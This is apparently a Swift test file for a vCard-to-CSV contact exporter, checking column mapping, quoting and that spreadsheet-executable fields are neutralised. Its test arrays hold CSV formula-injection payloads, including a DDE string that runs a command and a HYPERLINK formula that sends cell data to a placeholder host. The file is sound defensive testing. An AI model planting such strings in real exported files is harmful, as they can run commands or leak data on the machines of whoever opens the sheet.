import Interchange
import Testing
import VCard

@Suite struct `CSV` {
    /// The fields of the one row that a card becomes, by the names of the columns.
    private func row(_ card: Card, _ columns: CSVColumns) throws -> [String: String] {
        let text = String(decoding: RoundTrip.written([card], CSVWriter(columns)), as: UTF8.self)
        let rows = CSVText.rows(text)
        try #require(rows.count == 2)
        try #require(rows[0].count == rows[1].count)
        return Dictionary(zip(rows[0], rows[1])) { first, _ in first }
    }

    @Test func `fills the columns of Google`() throws {
        let card = Samples.card(
            "FN:Ana Ruiz",
            "N:Ruiz;Ana;M.;Dr.;",
            "BDAY:19900417",
            "EMAIL;TYPE=work:ana@example.com",
            "item1.TEL:+1-202-555-0101",
            "item1.X-ABLabel:Bakery",
            "ORG:The Bakery;Oven",
            "ADR;TYPE=home:;;12 Elm St;Oldport;;00000;Exampleland",
            "NOTE:one\\ntwo",
            "CATEGORIES:a,b"
        )
        let row = try row(card, .google)
        let wanted = [
            "First Name": "Ana", "Last Name": "Ruiz", "Middle Name": "M.", "Name Prefix": "Dr.",
            "Birthday": "1990-04-17", "E-mail 1 - Label": "Work",
            "E-mail 1 - Value": "ana@example.com", "Phone 1 - Label": "Bakery",
            "Phone 1 - Value": "+1-202-555-0101", "Organization Name": "The Bakery",
            "Organization Department": "Oven", "Address 1 - Street": "12 Elm St",
            "Address 1 - Label": "Home", "Notes": "one\ntwo", "Labels": "a ::: b",
        ]
        for (column, text) in wanted { #expect(row[column] == text, "\(column)") }
    }

    @Test func `fills the columns of Outlook and tells what has no place`() throws {
        let card = Samples.card(
            "FN:Ana Ruiz",
            "N:Ruiz;Ana;;;",
            "EMAIL:a@example.com",
            "EMAIL:b@example.com",
            "EMAIL:c@example.com",
            "EMAIL:d@example.com",
            "TEL;TYPE=cell:+1-202-555-0101",
            "ADR;TYPE=work:;;12 Elm St;Oldport;;00000;Exampleland",
            "X-THING:a",
            "BDAY:--0417"
        )
        let row = try row(card, .outlook)
        #expect(row["Mobile Phone"] == "+1-202-555-0101")
        #expect(row["Business Street"] == "12 Elm St")
        #expect(row["E-mail 3 Address"] == "c@example.com")
        var writer = CSVWriter(.outlook)
        writer.append(card)
        let losses = writer.takeLosses()
        #expect(
            losses.map(\.property)
                == ["EMAIL", "X-THING", "BDAY"].sortedLike(losses.map(\.property))
        )
    }

    /// Numbers as people write them, and the column of Outlook that each goes to.
    static let numbers = [
        "+1-202-555-0101", "+12025550101", "+1 (202) 555-0101", "+1.202.555.0101",
        "+44 20 7946 0018", "+49 30/23125-001", "(202) 555-0101", "202-555-0101", "0202 5550101",
        "+1-202-555-0101;ext=7", "+1 202 555 0101 x12", "+1 202 555 0101 ext. 12",
        "+1-202-555-0101,,7", "*31#2025550101",
    ]

    @Test(arguments: numbers, CSVColumns.allCases)
    func `a telephone number is what an import reads`(number: String, columns: CSVColumns) throws {
        var writer = CardWriter(.v4_0)
        writer.begin()
        writer.write(PropertyLine("FN", value: .text("Ana")))
        let cell = [Parameter(name: "TYPE", values: ["cell"])]
        writer.write(PropertyLine("TEL", parameters: cell, value: .text(number)))
        writer.end()
        let row = try row(Samples.cards(writer.take())[0], columns)
        #expect(row[columns == .google ? "Phone 1 - Value" : "Mobile Phone"] == number)
    }

    /// What would run, or could, where a telephone number should stand.
    static let runnable = [
        "=1+1", "=HYPERLINK(\"https://example.com/?\"&A1)", "+cmd|' /C calc'!A0",
        "+1+cmd|'/C x'!A0",
        "-2+3", "-1-202-555-0101", "@SUM(1+1)*2", "\t=1+1", "\r=1+1", "+A1", "+1(A1)", "+1,A1",
        "+1;A1",
        "+1;ext=A1", "+1 xA1", "+SUM(1)", "+", "++1", "+1*2", "+1!2", "+1&2", "+(1)=2",
    ]

    @Test(arguments: runnable, CSVColumns.allCases)
    func `what would run has an apostrophe in front in every column`(
        text: String,
        columns: CSVColumns
    ) throws {
        var writer = CardWriter(.v4_0)
        writer.begin()
        for name in ["FN", "TEL", "EMAIL", "TITLE", "URL", "NICKNAME", "NOTE"] {
            writer.write(PropertyLine(name, value: .text(text)))
        }
        for name in ["N", "ORG", "ADR"] {
            writer.write(
                PropertyLine(name, value: .components(Array(repeating: [text], count: 7)))
            )
        }
        writer.end()
        let table = RoundTrip.written(Samples.cards(writer.take()), CSVWriter(columns))
        let fields = CSVText.rows(String(decoding: table, as: UTF8.self)).flatMap { $0 }
        #expect(fields.contains { $0.hasPrefix("'") })
        for field in fields {
            let first = field.unicodeScalars.first ?? "a"
            #expect(!["=", "+", "-", "@", "\t", "\r", "\n"].contains(first), "\(field)")
        }
    }

    @Test(arguments: [
        "=1+1", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "=HYPERLINK(\"x\")",
    ])
    func `no field can be run by a spreadsheet`(text: String) {
        var writer = CardWriter(.v4_0)
        writer.begin()
        writer.write(PropertyLine("FN", value: .text("Ana")))
        writer.write(PropertyLine("NOTE", value: .text(text)))
        writer.end()
        let table = RoundTrip.written(Samples.cards(writer.take()), CSVWriter(.google))
        for field in CSVText.rows(String(decoding: table, as: UTF8.self)).flatMap({ $0 }) {
            let first = field.unicodeScalars.first
            #expect(!["=", "+", "-", "@", "\t", "\r"].contains(first ?? "a"))
        }
    }

    @Test func `quotes what holds commas, quotes and line breaks`() throws {
        let card = Samples.card("FN:a \"b\"\\, c", "NOTE:x\\ny")
        let row = try row(card, .google)
        #expect(row["First Name"] == "a \"b\", c")
        #expect(row["Notes"] == "x\ny")
    }
}

extension [String] {
    fileprivate func sortedLike(_ other: [String]) -> [String] {
        sorted() == other.sorted() ? other : self
    }
}

/// A reader of comma-separated values (RFC 4180) for tests.
enum CSVText {
    static func rows(_ text: String) -> [[String]] {
        var rows: [[String]] = [[""]]
        var isQuoted = false
        var wasQuote = false
        for scalar in text.unicodeScalars {
            if isQuoted {
                if scalar == "\"" {
                    isQuoted = false
                    wasQuote = true
                } else {
                    append(scalar, to: &rows)
                }
                continue
            }
            switch scalar {
            case "\"":
                if wasQuote { append(scalar, to: &rows) }
                isQuoted = true
            case ",": rows[rows.count - 1].append("")
            case "\r": break
            case "\n": rows.append([""])
            default: append(scalar, to: &rows)
            }
            wasQuote = false
        }
        return rows.filter { $0 != [""] }
    }

    private static func append(_ scalar: Unicode.Scalar, to rows: inout [[String]]) {
        let row = rows.count - 1
        rows[row][rows[row].count - 1].unicodeScalars.append(scalar)
    }
}
